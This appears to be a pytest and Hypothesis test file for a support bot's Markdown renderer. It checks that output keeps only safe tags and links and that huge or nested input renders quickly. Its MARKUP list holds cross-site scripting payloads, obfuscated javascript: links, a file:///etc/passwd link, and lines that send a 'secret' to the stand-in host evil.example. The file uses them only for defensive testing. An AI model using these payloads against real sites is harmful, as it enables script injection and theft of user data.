"""Markdown as a page shows it: whatever is written, nothing runs, nothing calls out, nothing takes long."""

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from supportbot.rendering import plain, render, split
from tests.endings import comes_to_an_end

MARKUP = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/?c=secret" onerror="alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{background:url(https://evil.example)}</style>",
    "![](https://evil.example/?c=secret)",
    "![x][y]\n\n[y]: https://evil.example/secret.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com"onmouseover="alert(1))',
    '```"><script>alert(1)</script>\ncode\n```',
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "`<script>alert(1)</script>`",
    "<https://example.com/?<script>>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALLOWED = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}

markdown = st.lists(
    st.sampled_from(
        [
            *MARKUP,
            *(
                "```\n",
                "~~~\n",
                "    code\n",
                "> ",
                "- ",
                "1. ",
                "  ",
                "# ",
                "---\n",
                "===\n",
                "|a|b|\n",
                "|-|-|\n",
            ),
            *("\n", "\n\n", "\r\n", "\r", "\u2028", "\x0b", "\x0c", "\x85", "\x00", "\ud800", "\u202e", "\t"),
            *("word", "**bold**", "*", "_", "`", "[x](/help)", "[x]: /help\n", "<", ">", "&amp;", "😀", "\\"),
        ]
    ),
    max_size=20,
).map("".join)


class Page(HTMLParser):
    """The tags and attributes a browser would make of it, and the text a person would read."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Page(html).tags:
        assert tag in ALLOWED, html
        assert set(attributes) <= {"href", "title", "class", "start", "style", "rel", "target"}, html
        if tag == "a" and "href" in attributes:
            assert re.match(r"https?:|mailto:|[^:]*$|[/?#]", attributes["href"] or ""), html
            assert attributes["rel"] == "noopener noreferrer nofollow"
        assert re.fullmatch(
            r"text-align: ?(left|right|center);?", attributes.get("style") or "text-align:left"
        )


@pytest.mark.parametrize("text", MARKUP)
@pytest.mark.parametrize("show", [render, plain])
def test_markup_does_nothing(show: Callable[[str], str], text: str) -> None:
    assert_harmless(show(text))


@given(markdown)
def test_no_mixture_of_markup_does_anything(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(plain(text))


@given(st.text(alphabet=st.characters(codec=None), max_size=300))
def test_any_text_can_be_shown(text: str) -> None:
    render(text).encode()
    plain(text).encode()
    split(text)


def test_html_stays_text() -> None:
    assert Page(render("a <b>bold</b> word")).text.strip() == "a <b>bold</b> word"
    assert Page(plain("<script>alert(1)</script>")).text == "<script>alert(1)</script>"


def test_images_stay_text_so_that_nobody_is_told_who_reads() -> None:
    html = render("![chart](https://evil.example/?c=secret)")

    assert "<img" not in html
    assert "chart" in html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    ((_, link),) = [tag for tag in Page(render("[x](https://example.com/a?b=1&c=2)")).tags if tag[0] == "a"]

    assert link == {
        "href": "https://example.com/a?b=1&c=2",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *soft* and ~~gone~~", "<strong>bold</strong> and <em>soft</em> and <s>gone</s>"),
        ("# Title", "<h1>Title</h1>"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("- one", "<ul>\n<li>one</li>\n</ul>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("`code`", "<p><code>code</code></p>"),
        ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>'),
        ("|a|\n|:-:|\n|b|", '<th style="text-align:center">a</th>'),
        ("[help](/help/refunds#how-long)", 'href="/help/refunds#how-long"'),
        ("[mail](mailto:help@example.com)", 'href="mailto:help@example.com"'),
    ],
)
def test_ordinary_markdown_looks_as_written(text: str, html: str) -> None:
    assert html in render(text)


def test_what_a_person_typed_keeps_its_lines_and_gets_links() -> None:
    html = plain("See https://example.com/a?b=1&c=2.\n*not* bold")

    assert '<a href="https://example.com/a?b=1&amp;c=2" target="_blank"' in html
    assert html.endswith("</a>.<br>*not* bold")


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/",
        "(https://example.com/a)",
        "https://example.com/a, and",
        "https://example.com/x_(y)",
    ],
)
def test_an_address_ends_where_the_sentence_goes_on(text: str) -> None:
    (_, attributes), *_ = Page(plain(text)).tags

    assert attributes["href"] is not None
    assert not attributes["href"].endswith((")", ",", "."))


# Too much of everything


@pytest.mark.parametrize(
    "text",
    [
        "> " * 3_000 + "the end",
        ">" * 3_000 + "the end",
        "".join("  " * depth + "- item\n" for depth in range(300)) + "the end",
        "1. " * 3_000 + "the end",
        "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n" + ("|" + "b|" * 400 + "\n") * 20 + "\nthe end",
        "a" * 1_000_000 + "the end",
        "[" * 20_000 + "the end",
        "![" * 10_000 + "the end",
        "[a](" * 10_000 + "the end",
        "*a " * 20_000 + "the end",
        "**a" * 20_000 + "the end",
        "~~a" * 10_000 + "the end",
        "`a``b" * 5_000 + "the end",
        "<" * 50_000 + "the end",
        "\\" * 50_000 + "the end",
        "x\n" * 20_000 + "the end",
        "&#x1;" * 20_000 + "the end",
        "http://" * 20_000 + "the end",
        "https://a" + "." * 100_000 + "the end",
        "e\u0301\u0316" * 20_000 + "the end",
    ],
    ids=lambda text: f"{text[:8]!r} and so on",
)
def test_too_much_is_shown_quickly_and_nothing_is_lost(text: str) -> None:
    with comes_to_an_end():
        html = render(text)
        typed = plain(text)
        split(text)

    assert "the end" in Page(html).text
    assert "the end" in Page(typed).text
    assert len(html) < 40 * len(text)


@pytest.mark.parametrize("depth", range(1, 30))
def test_however_deep_it_lies_no_word_is_lost(depth: int) -> None:
    for deep in (
        "> " * depth + "word",
        "".join("  " * at + f"- {at}\n" for at in range(depth)) + "  " * depth + "- word",
    ):
        html = render(deep)
        assert "word" in Page(html).text
        assert html.count("<blockquote") + html.count("<ul") <= 12


# Cutting a growing answer


@given(markdown)
@example("```\na\u2028b\n\nc\n```\n\nafter\n\nend")
@example("one\r\n\r\ntwo\r\rthree")
@example("\x0c\n\ntwo\n\nthree")
def test_the_parts_of_an_answer_are_the_answer(text: str) -> None:
    finished, running = split(text)

    assert "".join(finished) + running == text
    assert all(finished)


@given(
    st.lists(
        st.sampled_from(["a", "\n", "b\u2028", "# c", "   ", "- d", "|", "~~~", "\x0b", "\r\n"]), max_size=12
    )
)
def test_a_code_fence_stays_whole(lines: list[str]) -> None:
    code = "\n".join(line for line in lines if "~~~" not in line)
    fence = f"~~~\n{code}\n~~~\n"

    finished, running = split(f"Before.\n\n{fence}\nAfter.\n\nThe end.")

    assert any(fence in part for part in finished)
    assert running == "The end."


def test_an_open_fence_is_still_running() -> None:
    assert split("Before.\n\n```\na\n\nb\n\n# c") == (["Before.\n\n"], "```\na\n\nb\n\n# c")


@pytest.mark.parametrize(
    "text", ["", "\n", "one", "one\ntwo", "- a\n- b\n\n  c", "|a|\n|-|\n|b|", "> a\n> b"]
)
def test_one_block_is_still_running(text: str) -> None:
    assert split(text) == ([], text)


def test_blocks_are_finished_one_by_one() -> None:
    answer = "# Title\n\nA paragraph.\n\n1. one\n2. two\n\n```\ncode\n\nmore\n```\n\nThe end."

    growing = [split(answer[:length])[0] for length in range(len(answer) + 1)]

    for before, after in pairwise(growing):
        assert after[: len(before)] == before
    assert growing[-1] == [
        "# Title\n\n",
        "A paragraph.\n\n",
        "1. one\n2. two\n\n",
        "```\ncode\n\nmore\n```\n\n",
    ]


def test_cutting_an_answer_does_not_read_what_is_inside_its_blocks() -> None:
    # It is done twenty times a second for each page; a wall of brackets takes 20 ms to read, once.
    wall = "[" * 20_000
    began = time.perf_counter()
    render(wall)
    rendered = time.perf_counter()
    assert split(wall) == ([], wall)
    assert time.perf_counter() - rendered < (rendered - began) / 5
